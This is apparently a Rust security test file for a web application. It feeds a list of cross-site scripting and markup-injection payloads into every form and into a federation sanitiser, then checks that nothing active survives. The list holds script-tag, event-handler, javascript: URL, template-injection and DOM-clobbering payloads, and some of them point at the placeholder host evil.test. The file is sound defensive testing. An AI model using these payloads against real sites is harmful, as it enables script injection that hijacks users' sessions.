//! Hostile text through every field of every form, and through the replies of other servers
//! (security.md XS-1 to XS-9): on the page it is text or it is gone.

use crate::support::Town;
use crate::support::browser::Page;
use caucus::federation::inbound::clean::clean;
use scraper::{Html, Selector};

/// Ways in which markup tries to become active.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<embed src=//evil.test/x.swf>",
    "<object data=javascript:alert(1)></object>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><input name=password></form>",
    "<style>@import '//evil.test/x.css'</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=\"//evil.test\" onclick=alert(1) style=position:fixed target=_blank>x</a>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "[x](javascript:alert(1)) ![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<p id=content class=trouble name=form_token>clobber</p>",
    "<x\u{0c}onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)",
];

/// The page holds nothing that runs, loads, or pretends to be ours.
fn assert_harmless(page: &Page, hostile: &str) {
    page.assert_sound();
    let html = Html::parse_document(&page.body);
    for element in html.select(&Selector::parse("*").unwrap()) {
        let (name, told) = (element.value().name(), format!("{} after {hostile:?}: {}", page.url, element.html()));
        let known = [
            "html",
            "head",
            "meta",
            "title",
            "link",
            "body",
            "a",
            "header",
            "nav",
            "main",
            "footer",
            "div",
            "section",
            "ul",
            "ol",
            "li",
            "p",
            "h1",
            "h2",
            "h3",
            "h4",
            "span",
            "strong",
            "em",
            "b",
            "i",
            "code",
            "pre",
            "blockquote",
            "br",
            "del",
            "ins",
            "s",
            "bdi",
            "time",
            "dl",
            "dt",
            "dd",
            "form",
            "fieldset",
            "legend",
            "label",
            "input",
            "textarea",
            "select",
            "option",
            "button",
            "details",
            "summary",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "progress",
            "hr",
        ];
        assert!(known.contains(&name), "{told}");
        for (attribute, value) in element.value().attrs() {
            assert!(!attribute.starts_with("on") && attribute != "style", "{told}");
            let is_address = ["href", "src", "action", "formaction"].contains(&attribute);
            let is_ours = value.starts_with('/') && !value.starts_with("//")
                || value.starts_with('#')
                || value.starts_with("http");
            assert!(!is_address || is_ours, "{told}");
        }
        assert!(name != "meta" || element.value().attr("http-equiv").is_none(), "{told}");
    }
    assert!(!page.body.contains(">49<"), "a template was run");
}

#[tokio::test]
async fn hostile_text_in_every_field_is_shown_as_text() {
    let mut town = Town::new().await;
    for (round, hostile) in HOSTILE.iter().enumerate() {
        // One visit of a real person types less in a day; the limits have tests of their own.
        town.app.advance(chrono::TimeDelta::hours(1));
        for page in type_into_forms(&mut town, hostile, round).await {
            assert_harmless(&page, hostile);
        }
    }
    for path in [
        "/",
        "/cabals",
        "/help-requests",
        "/c/search",
        "/c/search/messages",
        "/amendments",
        "/documents/agreement",
        "/account",
    ] {
        assert_harmless(&town.ada.get(path).await, "everything");
        assert_harmless(&town.app.browser().get(path).await, "everything");
    }
}

/// Types the text into every third form, another third each round, so that the test stays quick:
/// each form meets a third of the texts, each text a third of the forms. Answers the pages.
async fn type_into_forms(town: &mut Town, hostile: &str, round: usize) -> Vec<Page> {
    let ada = &mut town.ada;
    let mut pages = Vec::new();
    let forms: Vec<(String, &str, Vec<&str>)> = vec![
        (
            "/c/search/help-requests/new".to_owned(),
            "/help-requests/new",
            vec!["what", "skills", "place", "deadline", "language"],
        ),
        ("/c/search/help-requests/new".to_owned(), "/help-requests/new", vec!["what", "skills", "place"]),
        ("/c/search/progress/new".to_owned(), "/progress/new", vec!["text"]),
        ("/c/search/polls/new".to_owned(), "/polls/new", vec!["question", "option", "language"]),
        ("/c/search/join".to_owned(), "/join", vec!["contribution"]),
        (format!("{}/edit", town.amendment), "/edit", vec!["title", "summary", "values_fit", "text"]),
        (format!("{}/offer", town.request), "/offer", vec!["name", "contact", "text"]),
        ("/account".to_owned(), "/account/tokens", vec!["name"]),
        ("/cabals/new".to_owned(), "/cabals/new", vec!["name", "purpose", "handle"]),
        ("/spokespeople/volunteer".to_owned(), "/spokespeople/volunteer", vec!["purpose", "ends_on"]),
    ];
    for (path, action, fields) in forms.into_iter().skip(round % 3).step_by(3) {
        let mut form = ada.get(&path).await.form(action);
        for field in fields {
            form = form.fill(field, hostile);
        }
        if action == "/help-requests/new" {
            form = form.fill("hours", "1");
        }
        pages.push(ada.submit(&form).await);
    }
    let mut visitor = town.app.browser();
    for path in ["/sign-in", "/sign-up"] {
        let form = visitor.get(path).await.form(path).fill("handle", hostile);
        pages.push(visitor.submit(&form).await);
    }
    pages.push(visitor.get(&town.request).await);
    pages.push(visitor.get(&town.amendment).await);
    pages
}

#[test]
fn replies_of_other_servers_keep_only_harmless_markup() {
    for hostile in HOSTILE {
        let cleaned = clean(hostile);
        let html = Html::parse_fragment(&cleaned);
        let active = "script, style, iframe, object, embed, base, form, input, svg, math, link, meta, template, img";
        assert!(html.select(&Selector::parse(active).unwrap()).next().is_none(), "{hostile:?} became {cleaned:?}");
        for link in html.select(&Selector::parse("a[href]").unwrap()) {
            let rel = link.value().attr("rel").unwrap_or_default();
            assert!(link.value().attr("href").unwrap().starts_with("http"), "{cleaned}");
            assert!(rel.contains("noopener") && rel.contains("nofollow"), "{cleaned}");
        }
    }
}
